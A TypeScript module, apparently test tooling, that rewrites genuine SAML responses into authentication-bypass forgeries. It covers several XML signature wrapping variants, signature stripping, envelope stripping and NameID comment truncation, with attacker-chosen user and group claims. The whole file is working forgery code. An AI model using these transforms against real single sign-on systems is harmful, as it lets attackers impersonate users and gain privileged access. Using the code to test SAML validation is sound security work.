import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * Rearranges a genuine SAMLResponse the way an attacker holding one would: the signed bytes
 * are kept, only the tree around them changes (XML signature wrapping, XSW). Each function
 * takes and returns the base64 the browser posts.
 */

const protocolNs = 'urn:oasis:names:tc:SAML:2.0:protocol';
const assertionNs = 'urn:oasis:names:tc:SAML:2.0:assertion';
const dsigNs = 'http://www.w3.org/2000/09/xmldsig#';

/** What the forged assertion claims instead of the genuine one. */
export interface ForgedClaims {
  readonly nameId: string;
  readonly groups: readonly string[];
}

/** A forged unsigned assertion inserted before the genuine signed one. */
export function insertForgedAssertionBefore(samlResponse: string, claims: ForgedClaims): string {
  const { doc, response, assertion } = open(samlResponse);
  const forged = forge(assertion, claims, { newId: true, keepSignature: false });
  response.insertBefore(forged, assertion);
  return close(doc);
}

/** The genuine assertion moved into samlp:Extensions; a forged unsigned one takes its place. */
export function moveSignedAssertionIntoExtensions(samlResponse: string, claims: ForgedClaims): string {
  const { doc, response, assertion } = open(samlResponse);
  const forged = forge(assertion, claims, { newId: true, keepSignature: false });
  response.replaceChild(forged, assertion);
  const extensions = doc.createElementNS(protocolNs, 'samlp:Extensions');
  extensions.appendChild(assertion);
  const issuer = childrenOf(response).find((c) => c.localName === 'Issuer');
  response.insertBefore(extensions, issuer ? issuer.nextSibling : response.firstChild);
  return close(doc);
}

/**
 * A forged assertion with the genuine one's ID and a copy of its signature takes its place;
 * the genuine assertion hides in a ds:Object inside that signature (XSW variants 7/8).
 */
export function hideSignedAssertionInSignatureObject(samlResponse: string, claims: ForgedClaims): string {
  const { doc, response, assertion } = open(samlResponse);
  const forged = forge(assertion, claims, { newId: false, keepSignature: true });
  response.replaceChild(forged, assertion);
  const signature = childrenOf(forged).find((c) => c.namespaceURI === dsigNs && c.localName === 'Signature');
  if (!signature) throw new Error('the genuine assertion has no signature to copy');
  const object = doc.createElementNS(dsigNs, 'ds:Object');
  object.appendChild(assertion);
  signature.appendChild(object);
  return close(doc);
}

/** Removes every ds:Signature: an assertion the IdP never signed. */
export function stripSignatures(samlResponse: string): string {
  const { doc } = open(samlResponse);
  for (const sig of Array.from(doc.getElementsByTagNameNS(dsigNs, 'Signature'))) sig.parentNode?.removeChild(sig);
  return close(doc);
}

/**
 * Removes what the (unsigned) Response envelope says about issuer, destination and
 * InResponseTo, so only the signed assertion can refuse.
 */
export function stripEnvelope(samlResponse: string): string {
  const { doc, response } = open(samlResponse);
  response.removeAttribute('InResponseTo');
  response.removeAttribute('Destination');
  for (const issuer of childrenOf(response).filter((c) => c.localName === 'Issuer')) response.removeChild(issuer);
  return close(doc);
}

/** Inserts an XML comment into the NameID text after `prefix` (the 2018 comment-truncation attack). */
export function splitNameIdWithComment(samlResponse: string, prefix: string): string {
  const { doc, assertion } = open(samlResponse);
  const nameId = assertion.getElementsByTagNameNS(assertionNs, 'NameID')[0];
  const value = nameId?.textContent ?? '';
  if (!nameId || !value.startsWith(prefix)) throw new Error('NameID does not start with the prefix');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(prefix));
  nameId.appendChild(doc.createComment(''));
  nameId.appendChild(doc.createTextNode(value.slice(prefix.length)));
  return close(doc);
}

function open(samlResponse: string) {
  const doc = new DOMParser().parseFromString(Buffer.from(samlResponse, 'base64').toString('utf8'), 'text/xml');
  const response = doc.documentElement;
  const assertion = childrenOf(response).find((c) => c.namespaceURI === assertionNs && c.localName === 'Assertion');
  if (response.localName !== 'Response' || !assertion) throw new Error('not a SAML Response with an assertion');
  return { doc, response, assertion };
}

function close(doc: Document): string {
  return Buffer.from(new XMLSerializer().serializeToString(doc), 'utf8').toString('base64');
}

function forge(genuine: Element, claims: ForgedClaims, how: { newId: boolean; keepSignature: boolean }): Element {
  const forged = genuine.cloneNode(true) as Element;
  if (how.newId) forged.setAttribute('ID', `_forged${Date.now()}`);
  if (!how.keepSignature) {
    for (const sig of childrenOf(forged).filter((c) => c.namespaceURI === dsigNs)) forged.removeChild(sig);
  }
  const nameId = forged.getElementsByTagNameNS(assertionNs, 'NameID')[0];
  if (nameId) {
    while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
    nameId.appendChild(genuine.ownerDocument.createTextNode(claims.nameId));
  }
  for (const attribute of Array.from(forged.getElementsByTagNameNS(assertionNs, 'Attribute'))) attribute.parentNode?.removeChild(attribute);
  const doc = genuine.ownerDocument;
  const statement = doc.createElementNS(assertionNs, 'saml:AttributeStatement');
  const attribute = doc.createElementNS(assertionNs, 'saml:Attribute');
  attribute.setAttribute('Name', 'groups');
  for (const group of claims.groups) {
    const value = doc.createElementNS(assertionNs, 'saml:AttributeValue');
    value.appendChild(doc.createTextNode(group));
    attribute.appendChild(value);
  }
  statement.appendChild(attribute);
  for (const old of Array.from(forged.getElementsByTagNameNS(assertionNs, 'AttributeStatement'))) old.parentNode?.removeChild(old);
  forged.appendChild(statement);
  return forged;
}

function childrenOf(el: Element): Element[] {
  return Array.from(el.childNodes).filter((n): n is Element => n.nodeType === 1);
}
